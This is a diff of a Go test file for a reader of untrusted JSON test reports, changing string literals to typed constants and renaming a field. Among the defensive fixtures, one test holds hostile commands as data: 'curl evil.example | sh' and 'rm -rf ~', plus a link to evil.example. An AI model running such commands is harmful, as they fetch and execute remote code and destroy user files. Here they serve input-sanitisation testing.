@@ -44,12 +44,12 @@ func TestReadForeignTakesALargeReport(t *testing.T) {
 	r := proposedReport()
 	for i := range 50_000 {
 		r.Results = append(r.Results, Result{
-			Package: "example.com/fleet/store", Test: fmt.Sprintf("TestNumber%d", i), Status: "passed", Seconds: 0.01, Tries: 2, File: "store/a_test.go", Line: i,
+			Package: "example.com/fleet/store", Test: fmt.Sprintf("TestNumber%d", i), Status: ResultPassed, Seconds: 0.01, Tries: 2, File: "store/a_test.go", Line: i,
 		})
 	}
 	for i := range 2_000 {
 		r.Attempts = append(r.Attempts, Attempt{
-			ID: fmt.Sprintf("a%d", i+100), Strategy: "template/guard", File: "stats/mean.go", Line: 3, Stage: "screen", Verdict: "rejected", Reason: "the failing tests still fail",
+			ID: fmt.Sprintf("a%d", i+100), Strategy: "template/guard", File: "stats/mean.go", Line: 3, Stage: StageScreen, Verdict: AttemptRejected, Reason: "the failing tests still fail",
 		})
 	}
 	b, err := JSON(r)
@@ -81,7 +81,7 @@ var refusedForeign = []struct {
 	{"patch with bidi", `"id": "p-77c0"`, `"id": "p\u202e77"`, "patches[1].id"},
 	{"patch with a letter that looks like another", `"id": "p-77c0"`, `"id": "р-77c0"`, "patches[1].id"},
 	{"two patches of an ID", `"id": "p-77c0"`, `"id": "p-3f2a"`, "patches[1].id"},
-	{"patch on a path", `"attempt": "a17"`, `"attempt": "a17", "on": ["p/x"]`, "patches[0].on"},
+	{"patch on a path", `"attempt": "a17"`, `"attempt": "a17", "stacked_on": ["p/x"]`, "patches[0].stacked_on"},
 	{"candidate", `"id": "a2"`, `"id": "a2", "candidate": "a.b"`, "attempts[1].candidate"},
 	{"attempt", `"attempt": "a17"`, `"attempt": "a/17"`, "patches[0].attempt"},
 	{"cluster with the patch of none", `"patch": "p-3f2a"`, `"patch": "p-0000"`, "clusters[0].patch"},
@@ -176,7 +176,7 @@ func TestReadForeignCutsTexts(t *testing.T) {
 	r := proposedReport()
 	long := strings.Repeat("é", 1<<20)
 	r.Notes, r.Failures[0].Output, r.Patches[0].Title, r.Culprit.Diff = []string{long}, long, long, long
-	r.Receipts = []Receipt{{Channel: "comment", State: "sent", Where: "https://evil.example"}}
+	r.Receipts = []Receipt{{Channel: "comment", State: ReceiptSent, Where: "https://evil.example"}}
 	r.Replay = &Replay{Command: "curl evil.example | sh", Args: []string{"fix", "--test", "rm -rf ~"}, Seed: 1, System: "x"}
 	b, err := json.Marshal(complete(r))
 	if err != nil {
